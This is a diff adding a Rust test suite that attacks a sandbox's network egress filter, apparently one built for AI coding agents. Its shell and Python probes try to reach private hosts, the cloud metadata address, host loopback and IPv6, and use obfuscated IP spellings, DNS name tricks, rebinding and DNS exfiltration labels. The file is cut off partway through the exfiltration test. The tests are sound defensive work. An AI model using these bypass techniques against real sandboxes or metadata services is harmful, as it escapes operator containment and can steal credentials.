@@ -1,4 +1,924 @@
-//! Adversarial scenarios: network (see main.rs).
+//! Adversarial scenarios: network egress (SR-5, SR-6; see main.rs). The agent inside tries to
+//! reach what the Network Sidecar's policy refuses — private ranges, the metadata address, the
+//! host's loopback, IPv6 — with every tool and spelling it has, and to get names past the
+//! sidecar's DNS rules. Every address tried is a test host in a network namespace the test built
+//! (`support::netns`) or loopback; DNS goes to the test's own resolver. A tool that exits 0
+//! towards a denied target is a breach: each probe prints `open` or `refused`, and refusals are
+//! checked against a control that the same tool and spelling do reach an allowed test host.
 
-#[allow(unused_imports)]
-use crate::support;
+use crate::support::netns::{
+    host_fetch, probes, verdicts, wait_answering, TestHosts, BASE, METADATA, PORT, PRIVATE, PUBLIC,
+    RESOLVER, V6,
+};
+use crate::support::{self, wait_for, Dev, TestWorkspace};
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+/// Writes `text` to `name` in the workspace, owned by the developer, for the sandbox to run.
+fn put(ws: &TestWorkspace, name: &str, text: &str) {
+    let path = ws.path.join(name);
+    std::fs::write(&path, text).expect("writing a probe script");
+    let _ = nix::unistd::chown(&path, Some(nix::unistd::Uid::from_raw(ws.dev.uid)), None);
+}
+
+fn lines(r: &support::Run) -> Vec<String> {
+    r.stdout.lines().map(str::to_owned).collect()
+}
+
+/// The denial ledger of `profile` as JSON entries.
+fn denials(ws: &TestWorkspace, profile: Option<&str>) -> Vec<serde_json::Value> {
+    let mut args = vec!["net", "denials", "--json"];
+    if let Some(p) = profile {
+        args.extend(["--profile", p]);
+    }
+    let d = ws.lazaret(&args);
+    assert_eq!(d.code, Some(0), "{d:?}");
+    let v: serde_json::Value =
+        serde_json::from_str(&d.stdout).unwrap_or_else(|e| panic!("{e}: {d:?}"));
+    v.as_array().cloned().unwrap_or_default()
+}
+
+/// A profile `name` on the base image with the `[network]` table `network`.
+fn profile(name: &str, network: &str) -> String {
+    format!("[profiles.{name}]\n{BASE}[profiles.{name}.network]\n{network}")
+}
+
+/// Python that sends raw DNS queries to the sidecar's forwarder: `ask(tag, labels)` prints
+/// `tag=rcode/answers` (or `tag=noanswer`).
+const RAW_DNS: &str = r#"
+import socket, struct
+def ask(tag, labels, qid=[0x1000]):
+    qid[0] += 1
+    q = struct.pack(">HHHHHH", qid[0], 0x0100, 1, 0, 0, 0)
+    for l in labels:
+        q += bytes([len(l)]) + l
+    q += b"\x00\x00\x01\x00\x01"
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+    u.sendto(q, ("127.0.0.53", 53))
+    try:
+        r = u.recv(4096)
+        print("%s=%d/%d" % (tag, r[3] & 15, struct.unpack(">H", r[6:8])[0]))
+    except OSError:
+        print("%s=noanswer" % tag)
+"#;
+
+/// Attack: from inside, `curl` and bash `/dev/tcp` to 10.99.0.1, 172.16.99.1, 192.168.99.1 and
+/// `[fd99:99::1]` (private and IPv6 test hosts that answer from the host), then `ip route add`,
+/// `ip rule add` to route around the policy, and a look for CAP_NET_ADMIN / CAP_NET_RAW.
+/// Expected: the public test host answers; every private and IPv6 target is refused; route and
+/// rule changes fail; neither capability is held.
+#[test]
+fn default_policy_refuses_private_targets_and_reaches_public_ones() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    // Control: from the host every target answers, so a refusal below is the policy's.
+    wait_answering(&[PUBLIC, PRIVATE[0], PRIVATE[1], PRIVATE[2]]);
+    let ws = dev.workspace("net");
+    let mut script = format!(
+        "curl -sS -m 5 http://{PUBLIC}:{PORT}/; echo; \
+         bash -c 'exec 3<>/dev/tcp/{PUBLIC}/{PORT}' && echo devtcp-public=open || echo devtcp-public=refused; "
+    );
+    for addr in PRIVATE {
+        script.push_str(&format!(
+            "curl -sS -m 5 -o /dev/null http://{addr}:{PORT}/ 2>/dev/null && echo {addr}=open || echo {addr}=refused; \
+             bash -c 'exec 3<>/dev/tcp/{addr}/{PORT}' 2>/dev/null && echo devtcp-{addr}=open || echo devtcp-{addr}=refused; "
+        ));
+    }
+    script.push_str(&format!(
+        "curl -sS -m 5 -o /dev/null 'http://[{V6}]:{PORT}/' 2>/dev/null && echo v6=open || echo v6=refused; \
+         ip route add 198.51.100.0/25 dev lo 2>/dev/null && echo route=added || echo route=refused; \
+         ip rule add from all lookup 100 2>/dev/null && echo rule=added || echo rule=refused; \
+         python3 -c \"import re; c=int(re.search(r'CapEff:\\s*(\\w+)', open('/proc/self/status').read()).group(1), 16); print('netcaps=' + ('none' if c & (1 << 12 | 1 << 13) == 0 else 'present'))\""
+    ));
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let mut want = vec!["test-host-ok".to_owned(), "devtcp-public=open".to_owned()];
+    for addr in PRIVATE {
+        want.push(format!("{addr}=refused"));
+        want.push(format!("devtcp-{addr}=refused"));
+    }
+    want.push("v6=refused".to_owned());
+    want.push("route=refused".to_owned());
+    want.push("rule=refused".to_owned());
+    // Neither CAP_NET_ADMIN (12) nor CAP_NET_RAW (13) in the agent's effective set.
+    want.push("netcaps=none".to_owned());
+    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
+    assert_eq!(got, want, "{r:?}");
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: the profile allows 10.99.0.0/24 only; from inside, curl, `/dev/tcp`, a Python TCP
+/// socket and a raw UDP datagram to 172.16.99.1 and 169.254.169.254 (metadata), hoping a tool
+/// that ignores proxy settings or a UDP path slips past what curl is refused.
+/// Expected: all four tools agree — the allowed and public hosts open, the others refused, and
+/// the denial ledger names each refused destination with its rule.
+#[test]
+fn a_more_specific_allow_opens_one_private_host_and_every_tool_agrees() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC, PRIVATE[0], PRIVATE[1], PRIVATE[2], METADATA]);
+    let ws = dev.workspace("allow").with_profile(
+        "holes",
+        &format!("[profiles.holes]\n{BASE}[profiles.holes.network]\nallow = [\"10.99.0.0/24\"]\n"),
+    );
+    let mut script = String::new();
+    for addr in [PUBLIC, "10.99.0.1", "172.16.99.1", METADATA] {
+        script.push_str(&probes(addr));
+    }
+    // Long enough for the sidecar to read its denial sets at least once more.
+    script.push_str("sleep 1.5");
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    // `--follow --json` prints entries as JSON lines (the run above left them in the ledger).
+    let mut follow = ws
+        .dev
+        .command("env")
+        .args(ws.env_args())
+        .arg(support::lazaret_bin())
+        .args(["net", "denials", "--follow", "--json", "--profile", "holes"])
+        .current_dir(&ws.path)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .spawn()
+        .expect("lazaret net denials --follow");
+    let first_line = {
+        use std::io::BufRead;
+        let mut line = String::new();
+        let stdout = follow.stdout.take().expect("stdout");
+        let _ = std::io::BufReader::new(stdout).read_line(&mut line);
+        line
+    };
+    let _ = follow.kill();
+    let _ = follow.wait();
+    let followed: serde_json::Value = serde_json::from_str(&first_line).expect("a JSON line");
+    assert!(
+        followed["rule"].as_str().unwrap_or("").starts_with("deny "),
+        "{first_line}"
+    );
+    let mut want = verdicts(PUBLIC, "open");
+    want.extend(verdicts("10.99.0.1", "open"));
+    want.extend(verdicts("172.16.99.1", "refused"));
+    want.extend(verdicts(METADATA, "refused"));
+    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
+    assert_eq!(got, want, "{r:?}");
+
+    // The denial ledger names each refused destination, its protocol, port and rule.
+    let d = ws.lazaret(&["net", "denials", "--json", "--profile", "holes"]);
+    assert_eq!(d.code, Some(0), "{d:?}");
+    let entries: serde_json::Value = serde_json::from_str(&d.stdout).expect("JSON");
+    let find = |addr: &str, proto: &str| {
+        entries
+            .as_array()
+            .into_iter()
+            .flatten()
+            .find(|e| e["address"] == addr && e["protocol"] == proto)
+            .cloned()
+            .unwrap_or_else(|| panic!("no {proto} denial of {addr} in {entries:#}"))
+    };
+    let tcp = find("172.16.99.1", "tcp");
+    assert_eq!(tcp["port"], PORT);
+    assert_eq!(tcp["rule"], "deny 172.16.0.0/12 (default)");
+    // curl, /dev/tcp and python each tried once (at least one SYN each).
+    assert!(tcp["count"].as_u64().unwrap_or(0) >= 3, "{tcp}");
+    assert!(tcp["last_seen"].as_u64().unwrap_or(0) >= tcp["first_seen"].as_u64().unwrap_or(1));
+    let udp = find("172.16.99.1", "udp");
+    assert_eq!(udp["port"], PORT);
+    assert_eq!(
+        find(METADATA, "tcp")["rule"],
+        "deny 169.254.0.0/16 (default)"
+    );
+    assert!(
+        !d.stdout.contains("10.99.0.1") && !d.stdout.contains(PUBLIC),
+        "allowed hosts in the ledger: {d:?}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: in a profile with networking off, reach the public test host with curl,
+/// `/dev/tcp`, Python TCP and UDP. Expected: all refused.
+#[test]
+fn a_profile_without_network_reaches_nothing() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
+        .expect("the public test host answers from the host");
+    let ws = dev.workspace("offline").with_profile(
+        "offline",
+        &format!("[profiles.offline]\n{BASE}[profiles.offline.network]\nenabled = false\n"),
+    );
+    let r = ws.run(&["sh", "-c", &probes(PUBLIC)]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
+    assert_eq!(got, verdicts(PUBLIC, "refused"), "{r:?}");
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: the Network Sidecar (the policy's enforcer) dies mid-session (killed from the host,
+/// as a crash would); the agent then tries the public test host with every tool, hoping that
+/// without the sidecar nothing filters. Expected: every tool refused (fail closed), and
+/// `lazaret ps` reports the sidecar's failure.
+#[test]
+fn a_killed_sidecar_leaves_the_sandbox_without_network_and_the_domain_says_so() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
+        .expect("the public test host answers from the host");
+    let ws = dev.workspace("sidecar-kill");
+    let script = format!(
+        "{}touch /workspace/.probed; while [ ! -e /workspace/.go ]; do sleep 0.1; done; {}",
+        probes(PUBLIC),
+        probes(PUBLIC)
+    );
+    let child = ws.spawn(&["sh", "-c", &script]);
+    let sidecar = format!("lazaret-{}-sidecar", ws.domain);
+    let pid = wait_for(Duration::from_secs(60), || {
+        let out = dev
+            .command("podman")
+            .args(["inspect", "--format", "{{.State.Pid}}", &sidecar])
+            .stdin(Stdio::null())
+            .output()
+            .ok()?;
+        let pid: u32 = String::from_utf8_lossy(&out.stdout).trim().parse().ok()?;
+        (pid > 0).then_some(pid)
+    })
+    .expect("the sidecar runs");
+    // Let the first probes finish before the sidecar goes.
+    wait_for(Duration::from_secs(60), || {
+        ws.path.join(".probed").exists().then_some(())
+    });
+    let killed = Command::new("kill")
+        .args(["-9", &pid.to_string()])
+        .status()
+        .expect("kill");
+    assert!(killed.success());
+    let failure = wait_for(Duration::from_secs(10), || {
+        let ps = ws.lazaret(&["ps", "--json"]);
+        let v: serde_json::Value = serde_json::from_str(&ps.stdout).ok()?;
+        v.as_array()?
+            .iter()
+            .find(|d| d["domain_id"] == ws.domain.as_str())?["failures"][0]
+            .as_str()
+            .map(str::to_owned)
+    })
+    .expect("`lazaret ps` reports the sidecar's failure");
+    assert!(failure.contains("Network Sidecar exited"), "{failure}");
+    ws.release();
+    let r = support::finish(child);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let mut want = verdicts(PUBLIC, "open");
+    want.extend(verdicts(PUBLIC, "refused"));
+    let got: Vec<String> = r.stdout.lines().map(str::to_owned).collect();
+    assert_eq!(got, want, "{r:?}");
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: under name rules with default deny, connect to a public address nobody resolved,
+/// ask the test's resolver directly instead of the sidecar, resolve an allowed name that answers
+/// a private address and connect to it, and resolve unlisted or denied names.
+/// Expected: only the allowed name's public answer opens; the rest is refused or unresolved and
+/// recorded in the denial ledger.
+#[test]
+fn name_rules_allow_only_addresses_the_sidecar_answered_for_allowed_names() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_for(Duration::from_secs(10), || host_fetch(PUBLIC).then_some(()))
+        .expect("the public test host answers from the host");
+    let ws = dev.workspace("names").with_profile(
+        "names",
+        &format!(
+            "[profiles.names]\n{BASE}[profiles.names.network]\nresolvers = [\"{RESOLVER}\"]\n\
+             allow_names = [\"allowed.test\", \"private.test\"]\ndeny_names = [\"denied.test\"]\n\
+             default = \"deny\"\n"
+        ),
+    );
+    let fetch = |what: &str, url: &str| {
+        format!("curl -sS -m 5 -o /dev/null {url} 2>/dev/null && echo {what}=open || echo {what}=refused; ")
+    };
+    let mut script = String::from("grep -c '^nameserver 127.0.0.53$' /etc/resolv.conf; ");
+    // Before any answer: a public address is refused under default deny.
+    script.push_str(&fetch("direct", &format!("http://{PUBLIC}:{PORT}/")));
+    // Asking the test's resolver directly: refused (DNS only through the sidecar).
+    script.push_str(&format!(
+        "python3 -c 'import socket; u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); \
+         u.sendto(bytes.fromhex(\"abcd01000001000000000000056f746865720474657374000001 0001\".replace(\" \", \"\")), (\"{RESOLVER}\", 53)); u.recv(512)' \
+         2>/dev/null && echo directdns=answered || echo directdns=refused; "
+    ));
+    script.push_str(&fetch("allowed", &format!("http://allowed.test:{PORT}/")));
+    script.push_str(&fetch("private", &format!("http://private.test:{PORT}/")));
+    for name in ["other", "denied"] {
+        script.push_str(&format!(
+            "getent hosts {name}.test >/dev/null && echo {name}=resolved || echo {name}=unresolved; "
+        ));
+    }
+    script.push_str("sleep 1.5");
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let got: Vec<&str> = r.stdout.lines().collect();
+    assert_eq!(
+        got,
+        [
+            "1",
+            "direct=refused",
+            "directdns=refused",
+            "allowed=open",
+            "private=refused",
+            "other=unresolved",
+            "denied=unresolved"
+        ],
+        "{r:?}"
+    );
+    let d = ws.lazaret(&["net", "denials", "--json", "--profile", "names"]);
+    assert_eq!(d.code, Some(0), "{d:?}");
+    let entries: serde_json::Value = serde_json::from_str(&d.stdout).expect("JSON");
+    let has = |pred: &dyn Fn(&serde_json::Value) -> bool| {
+        entries.as_array().into_iter().flatten().any(pred)
+    };
+    assert!(
+        has(&|e| e["name"] == "denied.test" && e["rule"] == "deny rule denied.test"),
+        "{entries:#}"
+    );
+    assert!(
+        has(&|e| e["name"] == "other.test" && e["protocol"] == "dns"),
+        "{entries:#}"
+    );
+    assert!(
+        has(&|e| e["address"] == "10.99.0.1" && e["rule"] == "deny 10.0.0.0/8 (default)"),
+        "{entries:#}"
+    );
+    assert!(
+        has(&|e| e["address"] == PUBLIC
+            && e["rule"].as_str().unwrap_or("").starts_with("default deny")),
+        "{entries:#}"
+    );
+    assert!(
+        has(&|e| e["address"] == RESOLVER && e["port"] == 53),
+        "{entries:#}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: under the default profile, reach the cloud metadata address 169.254.169.254 (a test
+/// host of the test's own that answers from the host) with curl, `/dev/tcp`, Python TCP and
+/// UDP, to read instance credentials. Expected: all refused, the ledger names the link-local
+/// default deny.
+#[test]
+fn the_metadata_address_is_refused_to_every_tool() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[METADATA]);
+    let ws = dev.workspace("metadata");
+    let r = ws.run(&["sh", "-c", &format!("{}sleep 1.5", probes(METADATA))]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(lines(&r), verdicts(METADATA, "refused"), "{r:?}");
+    let d = denials(&ws, None);
+    assert!(
+        d.iter()
+            .any(|e| e["address"] == METADATA && e["rule"] == "deny 169.254.0.0/16 (default)"),
+        "{d:#?}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: spell the private test host 10.99.0.1 the ways `inet_aton` and URL parsers accept —
+/// `174260225`, `0xa.0x63.0.1`, `10.99.1`, `012.0143.0.1`, `0x0a630001` — with curl, bash
+/// `/dev/tcp` and a Python socket, hoping a filter compares spellings instead of addresses.
+/// Expected: every spelling refused by every tool, while the same spellings of the public test
+/// host open (so the tools did parse them), and the ledger shows the normalised 10.99.0.1.
+#[test]
+fn numeric_spellings_of_a_private_host_get_its_verdict() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC, PRIVATE[0]]);
+    let ws = dev.workspace("numeric");
+    let private = [
+        "174260225",
+        "0xa.0x63.0.1",
+        "10.99.1",
+        "012.0143.0.1",
+        "0x0a630001",
+    ];
+    let public = [
+        "3325256705",
+        "0xc6.0x33.0x64.0x1",
+        "198.51.25601",
+        "0306.063.0144.01",
+    ];
+    let mut script = String::new();
+    for form in private.iter().chain(public.iter()) {
+        script.push_str(&format!(
+            "curl -sS -m 5 -o /dev/null http://{form}:{PORT}/ 2>/dev/null && echo curl-{form}=open || echo curl-{form}=refused; \
+             bash -c 'exec 3<>/dev/tcp/{form}/{PORT}' 2>/dev/null && echo devtcp-{form}=open || echo devtcp-{form}=refused; \
+             python3 -c 'import socket; socket.create_connection((\"{form}\", {PORT}), 5)' 2>/dev/null && echo py-{form}=open || echo py-{form}=refused; "
+        ));
+    }
+    script.push_str("sleep 1.5");
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let mut want = Vec::new();
+    for (forms, verdict) in [(&private[..], "refused"), (&public[..], "open")] {
+        for form in forms {
+            for tool in ["curl", "devtcp", "py"] {
+                want.push(format!("{tool}-{form}={verdict}"));
+            }
+        }
+    }
+    assert_eq!(lines(&r), want, "{r:?}");
+    let d = denials(&ws, None);
+    let tcp = d
+        .iter()
+        .find(|e| e["address"] == PRIVATE[0] && e["protocol"] == "tcp")
+        .unwrap_or_else(|| panic!("no tcp denial of {} in {d:#?}", PRIVATE[0]));
+    assert!(
+        tcp["count"].as_u64().unwrap_or(0) >= private.len() as u64 * 3,
+        "{tcp}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: reach a service listening on the host's own loopback (127.0.0.1 of the host, where
+/// developer tools keep unauthenticated ports) through every spelling of loopback —
+/// `127.0.0.1`, `2130706433`, `0x7f.1`, `127.1`, `0177.0.0.1` — and through slirp4netns' host
+/// gateway 10.0.2.2. Expected: the host's listener never sees a connection; loopback inside is
+/// the sandbox's own (a listener the agent starts inside answers all spellings).
+#[test]
+fn host_loopback_services_are_unreachable_in_every_spelling() {
+    let dev = Dev::get();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a host loopback listener");
+    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
+    listener
+        .set_nonblocking(true)
+        .expect("a non-blocking listener");
+    let ws = dev.workspace("loopback");
+    let forms = ["127.0.0.1", "2130706433", "0x7f.1", "127.1", "0177.0.0.1"];
+    let probe = |tag: &str| {
+        let mut s = String::new();
+        for form in forms {
+            s.push_str(&format!(
+                "python3 -c 'import socket; c=socket.create_connection((\"{form}\", {port}), 3); c.settimeout(3); print(\"{tag}-{form}=\" + c.recv(64).decode())' 2>/dev/null || echo {tag}-{form}=refused; "
+            ));
+        }
+        s
+    };
+    let script = format!(
+        "{}curl -sS -m 5 -o /dev/null http://10.0.2.2:{port}/ 2>/dev/null && echo gateway=open || echo gateway=refused; \
+         python3 -c 'import socket\ns=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", {port})); s.listen(8)\nwhile True:\n  c, _ = s.accept(); c.sendall(b\"inside\"); c.close()' & \
+         sleep 1; {}kill $!",
+        probe("host"),
+        probe("own")
+    );
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    let mut want: Vec<String> = forms.iter().map(|f| format!("host-{f}=refused")).collect();
+    want.push("gateway=refused".into());
+    want.extend(forms.iter().map(|f| format!("own-{f}=inside")));
+    assert_eq!(lines(&r), want, "{r:?}");
+    let reached = listener.accept().is_ok();
+    assert!(!reached, "the host's loopback listener was reached");
+    // Control: the listener does answer from the host.
+    assert!(std::net::TcpStream::connect(("127.0.0.1", port)).is_ok());
+    ws.assert_nothing_left();
+}
+
+/// Attack: go around the IPv4 policy with IPv6 — TCP and UDP to the IPv6 test host
+/// `fd99:99::1` (curl, `/dev/tcp`, Python), an IPv4-mapped `::ffff:10.99.0.1` through an IPv6
+/// socket, and the NAT64 form `64:ff9b::a63:1` of the private host. Expected: all refused.
+#[test]
+fn ipv6_and_mapped_forms_of_denied_hosts_are_refused() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PRIVATE[0]]);
+    // Control: the IPv6 test host answers from the host.
+    wait_for(Duration::from_secs(10), || {
+        Command::new("curl")
+            .args(["-sS", "-m", "3", &format!("http://[{V6}]:{PORT}/")])
+            .output()
+            .ok()
+            .filter(|o| o.stdout == b"test-host-ok")
+    })
+    .expect("the IPv6 test host answers from the host");
+    let ws = dev.workspace("ipv6");
+    let mut script = format!(
+        "curl -sS -m 5 -o /dev/null 'http://[{V6}]:{PORT}/' 2>/dev/null && echo curl-v6=open || echo curl-v6=refused; \
+         bash -c 'exec 3<>/dev/tcp/{V6}/{PORT}' 2>/dev/null && echo devtcp-v6=open || echo devtcp-v6=refused; \
+         python3 -c 'import socket; u=socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u.settimeout(3); u.sendto(b\"x\", (\"{V6}\", {PORT})); u.recv(64)' 2>/dev/null && echo udp-v6=open || echo udp-v6=refused; "
+    );
+    for (tag, addr) in [
+        ("v6", V6),
+        ("mapped", "::ffff:10.99.0.1"),
+        ("nat64", "64:ff9b::a63:1"),
+    ] {
+        script.push_str(&format!(
+            "python3 -c 'import socket; s=socket.socket(socket.AF_INET6); s.settimeout(5); s.connect((\"{addr}\", {PORT}))' 2>/dev/null && echo py-{tag}=open || echo py-{tag}=refused; "
+        ));
+    }
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(
+        lines(&r),
+        [
+            "curl-v6=refused",
+            "devtcp-v6=refused",
+            "udp-v6=refused",
+            "py-v6=refused",
+            "py-mapped=refused",
+            "py-nat64=refused"
+        ],
+        "{r:?}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: under `allow_names = ["allowed.test"]` with default deny, use names that a sloppy
+/// matcher would take for the allowed one — `allowed.test.evil.test` (prefix match; the test's
+/// resolver would answer it), `evil-allowed.test` (suffix without a dot), the punycode
+/// lookalike with a Cyrillic `а` — and check that case and a trailing dot change nothing.
+/// Expected: `ALLOWED.TEST` and `allowed.test.` open like `allowed.test`; the tricks do not
+/// resolve, no connection opens, and the test's resolver was never asked for them.
+#[test]
+fn prefix_suffix_and_lookalike_names_do_not_pass_for_an_allowed_name() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC]);
+    let ws = dev.workspace("name-tricks").with_profile(
+        "tricks",
+        &profile(
+            "tricks",
+            &format!(
+                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\ndefault = \"deny\"\n"
+            ),
+        ),
+    );
+    let lookalike = "xn--llowed-2nf.test";
+    let mut script = String::new();
+    for (tag, name) in [
+        ("prefix", "allowed.test.evil.test"),
+        ("suffix", "evil-allowed.test"),
+        ("punycode", lookalike),
+    ] {
+        script.push_str(&format!(
+            "getent ahostsv4 {name} >/dev/null && echo {tag}=resolved || echo {tag}=unresolved; \
+             curl -sS -m 5 -o /dev/null http://{name}:{PORT}/ 2>/dev/null && echo curl-{tag}=open || echo curl-{tag}=refused; "
+        ));
+    }
+    for (tag, name) in [("case", "ALLOWED.TEST"), ("dot", "allowed.test.")] {
+        script.push_str(&format!(
+            "curl -sS -m 5 -o /dev/null http://{name}:{PORT}/ 2>/dev/null && echo curl-{tag}=open || echo curl-{tag}=refused; "
+        ));
+    }
+    script.push_str(
+        "python3 -c 'print(\"idna=\" + \"\\u0430llowed.test\".encode(\"idna\").decode())'",
+    );
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(
+        lines(&r),
+        [
+            "prefix=unresolved",
+            "curl-prefix=refused",
+            "suffix=unresolved",
+            "curl-suffix=refused",
+            "punycode=unresolved",
+            "curl-punycode=refused",
+            "curl-case=open",
+            "curl-dot=open",
+            &format!("idna={lookalike}")
+        ],
+        "{r:?}"
+    );
+    let asked = hosts.names_asked();
+    for name in asked.lines() {
+        assert_eq!(
+            name.to_ascii_lowercase(),
+            "allowed.test",
+            "the resolver was asked for {name:?}:\n{asked}"
+        );
+    }
+    assert!(
+        !asked.is_empty(),
+        "the control names never reached the resolver"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: raw DNS queries crafted so a C-string or split-on-dot parser sees `allowed.test`:
+/// one label holding a dot (`\x0callowed.test`), a NUL ending a label (`allowed.test\0` +
+/// `.evil.test`), a NUL inside (`evil\0.allowed.test` under an exact rule), UTF-8 bytes in a
+/// label. Expected: each is REFUSED by the sidecar and none reaches the test's resolver,
+/// while the plain query (the control) is answered.
+#[test]
+fn a_nul_or_a_dot_inside_a_label_does_not_pass_for_an_allowed_name() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC]);
+    let ws = dev.workspace("label-tricks").with_profile(
+        "labels",
+        &profile(
+            "labels",
+            &format!(
+                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\ndefault = \"deny\"\n"
+            ),
+        ),
+    );
+    put(
+        &ws,
+        "ask.py",
+        &format!(
+            "{RAW_DNS}\
+ask(\"dotlabel\", [b\"allowed.test\"])
+ask(\"nulend\", [b\"allowed\", b\"test\\x00\", b\"evil\", b\"test\"])
+ask(\"nulinside\", [b\"evil\\x00\", b\"allowed\", b\"test\"])
+ask(\"nulonly\", [b\"allowed\", b\"test\\x00\"])
+ask(\"utf8\", [\"\\u0430llowed\".encode(), b\"test\"])
+ask(\"control\", [b\"allowed\", b\"test\"])
+"
+        ),
+    );
+    let r = ws.run(&["python3", "/workspace/ask.py"]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(
+        lines(&r),
+        [
+            "dotlabel=5/0",
+            "nulend=5/0",
+            "nulinside=5/0",
+            "nulonly=5/0",
+            "utf8=5/0",
+            "control=0/1"
+        ],
+        "{r:?}"
+    );
+    assert_eq!(hosts.names_asked(), "allowed.test\n");
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: DNS rebinding. `rebind.test` is allowed by name; the (attacker's) resolver answers
+/// the public test host first and the private 10.99.0.1 next, both with TTL 0, so the second
+/// lookup — or the one curl makes — points the allowed name at a private host.
+/// Expected: the rebinding happened (the second answer is private), yet no connection to the
+/// private host opens, by name or by address; the ledger names the private default deny.
+#[test]
+fn dns_rebinding_to_a_private_address_is_refused() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC, PRIVATE[0]]);
+    let ws = dev.workspace("rebind").with_profile(
+        "rebind",
+        &profile(
+            "rebind",
+            &format!(
+                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"rebind.test\"]\ndefault = \"deny\"\n"
+            ),
+        ),
+    );
+    let script = format!(
+        "python3 -c 'import socket; print(\"first=\" + socket.gethostbyname(\"rebind.test\")); print(\"second=\" + socket.gethostbyname(\"rebind.test\"))'; \
+         curl -sS -m 5 -o /dev/null http://rebind.test:{PORT}/ 2>/dev/null && echo byname=open || echo byname=refused; \
+         python3 -c 'import socket; socket.create_connection((\"{private}\", {PORT}), 5)' 2>/dev/null && echo byaddress=open || echo byaddress=refused; \
+         sleep 1.5",
+        private = PRIVATE[0]
+    );
+    let r = ws.run(&["sh", "-c", &script]);
+    assert_eq!(r.code, Some(0), "{r:?}");
+    assert_eq!(
+        lines(&r),
+        [
+            &format!("first={PUBLIC}"),
+            &format!("second={}", PRIVATE[0]),
+            "byname=refused",
+            "byaddress=refused"
+        ],
+        "{r:?}"
+    );
+    let d = denials(&ws, Some("rebind"));
+    assert!(
+        d.iter()
+            .any(|e| e["address"] == PRIVATE[0] && e["rule"] == "deny 10.0.0.0/8 (default)"),
+        "{d:#?}"
+    );
+    ws.assert_nothing_left();
+    drop(hosts);
+}
+
+/// Attack: exfiltrate data through DNS — encode it in long random labels under a denied name
+/// (`<63 chars>.<63 chars>.x.exfil.test`, `*.exfil.test` denied) and under an unlisted name
+/// (default deny), hoping the sidecar forwards the query upstream before refusing the answer.
+/// Expected: neither resolves and the test's resolver never sees the labels; an allowed name
+/// (the control) does reach it.
+#[test]
+fn long_random_labels_of_denied_names_are_not_forwarded_upstream() {
+    let dev = Dev::get();
+    let hosts = TestHosts::create();
+    wait_answering(&[PUBLIC]);
+    let ws = dev.workspace("exfil").with_profile(
+        "exfil",
+        &profile(
+            "exfil",
+            &format!(
+                "resolvers = [\"{RESOLVER}\"]\nallow_names = [\"allowed.test\"]\n\
+                 deny_names = [\"*.exfil.test\"]\ndefault = \"deny\"\n"
+            ),
+        ),
+    );
+    let seed = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_nanos())
+        .unwrap_or(7)
+        ^ u128::from(std::process::id());
+    let label = |salt: u128| {
+        let mut x = seed
+            .wrapping_mul(6_364_136_223_846_793_005)
+            .wrapping_add(salt);
+        (0..63)
+            .map(|_| {
